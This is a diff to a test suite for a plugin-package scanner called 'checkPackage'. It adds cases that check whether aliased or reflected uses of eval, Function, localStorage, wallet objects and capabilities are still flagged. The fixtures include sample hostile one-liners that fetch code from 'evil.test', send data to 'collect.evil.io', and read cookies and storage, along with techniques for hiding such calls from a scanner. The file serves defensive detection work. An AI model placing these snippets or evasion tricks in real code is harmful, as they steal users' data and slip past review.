@@ -107,6 +107,10 @@ describe('checkPackage', () => {
     ['another id than it says', 'manifest', { manifest: { id: 'note' } }],
     ['eval', 'no-eval', { loads: 'const run = (text) => (0, eval)(text)' }],
     ['eval by the page', 'no-eval', { loads: "const run = (text) => globalThis['eval'](text)" }],
+    ['eval under another name', 'no-eval', { loads: 'const run = eval' }],
+    ['eval taken by a pattern', 'no-eval', { loads: 'const { eval: run } = globalThis' }],
+    ['Function under another name', 'no-eval', { loads: 'const Make = true && Function' }],
+    ['Function by reflection', 'no-eval', { loads: "const Make = Reflect.get(window, 'Function')" }],
     ['code by a constructor', 'no-eval', { loads: 'const run = (text) => (() => {}).constructor(text)' }],
     ['a timer with a text', 'no-eval', { loads: "const run = () => setTimeout('alert(1)', 10)" }],
     ['code from elsewhere', 'downloaded-code', { loads: "const run = () => import('https://evil.test/code.js')" }],
@@ -129,6 +133,9 @@ describe('checkPackage', () => {
     ],
     ['a hidden host', 'hosts', { loads: "const send = (text) => fetch('https://collect.evil.io/' + text)" }],
     ['a hidden socket', 'hosts', { loads: "const open = () => new WebSocket('wss://collect.evil.io')" }],
+    ['storage taken by a pattern', 'page-storage', { loads: 'const { localStorage: store } = window' }],
+    ['storage by reflection', 'page-storage', { loads: "const store = Reflect.get(globalThis, 'localStorage')" }],
+    ['a wallet taken by a pattern', 'page-wallets', { loads: 'const { ethereum: wallet } = self' }],
     ['storage theft', 'page-storage', { loads: 'const steal = () => Object.entries(localStorage)' }],
     ['cookies', 'page-storage', { loads: 'const steal = () => document.cookie' }],
     ['a wallet past the kernel', 'page-wallets', { loads: 'const ask = () => window.ethereum.request({})' }],
@@ -362,6 +369,14 @@ describe('checkPackage', () => {
     expect(report.provenance).toBe(provenance)
     expect(report.findings.map(({ level }) => level)).toEqual(levels)
   })
+
+  test.each(['const ask = ctx.capability', 'const { capability: ask } = ctx', 'let ask; ({ capability: ask } = ctx)'])(
+    'behavior: capabilities that are asked for under another name are a warning: %s',
+    async (taken) => {
+      const report = await check({ loads: `const sign = (ctx) => { ${taken}; return ask('signMessage') }` })
+      expect(report.findings).toMatchObject([{ rule: 'stated-permissions', level: 'warning' }])
+    },
+  )
 
   test('behavior: permissions in a variable are a warning', async () => {
     const report = await check({ loads: 'const hooks = {}', plugin: 'hooks' })
